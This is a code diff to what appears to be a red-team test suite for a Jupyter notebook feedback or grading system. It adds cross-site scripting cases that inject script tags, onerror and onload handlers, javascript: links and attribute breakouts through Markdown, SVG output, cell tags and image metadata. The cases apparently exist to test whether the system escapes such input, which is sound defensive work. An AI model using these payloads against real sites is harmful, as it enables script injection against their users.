@@ -716,13 +716,45 @@ def xss_javascript(ctx):
 
 def xss_markdown(ctx):
     nb = ctx.lab.fresh()
+    js = _js(ctx.mark, quote=chr(39))
     raw = (f"<script>{_js(ctx.mark)}</script>\n\n"
-           f"<img src=\"redteam-missing.png\" onerror=\"{_js(ctx.mark, quote=chr(39))}\">\n\n"
-           f"<a href=\"javascript:{_js(ctx.mark, quote=chr(39))}\">see my answer</a>\n")
+           f"<img src=\"redteam-missing.png\" onerror=\"{js}\">\n\n"
+           f"<a href=\"javascript:{js}\">see my answer</a>\n\n"
+           f"[a Markdown link](javascript:{js.replace('(', '%28').replace(')', '%29')}) "
+           f"<javascript:{js.replace(' ', '')}>\n")
     for cell in nb.cells:
         if labinfo.is_answer(cell) and cell.cell_type == "markdown":
             cell.source = raw
     nb.cells.insert(_first_answer_index(nb), nbformat.v4.new_markdown_cell(raw))
+    _write(ctx, nb)
+
+
+def xss_svg(ctx):
+    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_js(ctx.mark, quote=chr(39))}"><script>{_js(ctx.mark)}</script></svg>'
+    markdown = f"<script>{_js(ctx.mark)}</script><img src=x onerror=\"{_js(ctx.mark, quote=chr(39))}\">"
+    code = ("from IPython.display import SVG, Markdown, display\n"
+            f"display({{'image/svg+xml': {svg!r}}}, raw=True)\n"
+            f"display({{'text/markdown': {markdown!r}}}, raw=True)\n")
+    _write(ctx, _insert(ctx.lab.fresh(), code))
+
+
+PNG_1PX = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=")
+
+
+def xss_metadata(ctx):
+    """Script smuggled through what templates print without escaping: cell tags and output metadata."""
+    nb = ctx.lab.fresh()
+    handler = _js(ctx.mark, quote=chr(39))
+    evil = f'x" onmouseover="{handler}" data-x="'
+    code = ("from IPython.display import display\n"
+            f"display({{'image/png': {PNG_1PX!r}}}, raw=True, metadata={{'image/png': {{'width': {evil!r}, "
+            f"'height': {evil!r}}}}})\n")
+    cell = nbformat.v4.new_code_cell(code)
+    cell.metadata["tags"] = [evil]
+    nb.cells.insert(_first_answer_index(nb), cell)
+    note = nbformat.v4.new_markdown_cell(f"{ctx.mark}: a tagged note")
+    note.metadata["tags"] = [evil]
+    nb.cells.insert(_first_answer_index(nb), note)
     _write(ctx, nb)
 
 
@@ -788,8 +820,12 @@ ATTACKS = [
     Attack("xss_script", "script in feedback", "<script> in an HTML output", xss_script),
     Attack("xss_img", "script in feedback", "<img onerror> in an HTML output", xss_img),
     Attack("xss_javascript", "script in feedback", "a JavaScript output", xss_javascript),
-    Attack("xss_markdown", "script in feedback", "raw HTML (script, onerror, javascript: link) in Markdown",
+    Attack("xss_markdown", "script in feedback", "raw HTML (script, onerror, javascript: links) in Markdown",
            xss_markdown),
+    Attack("xss_svg", "script in feedback", "an SVG output with onload and <script>, a Markdown output with raw HTML",
+           xss_svg),
+    Attack("xss_metadata", "script in feedback", "event handlers in cell tags and image output metadata",
+           xss_metadata),
 ]
 BY_NAME = {a.name: a for a in ATTACKS}
 
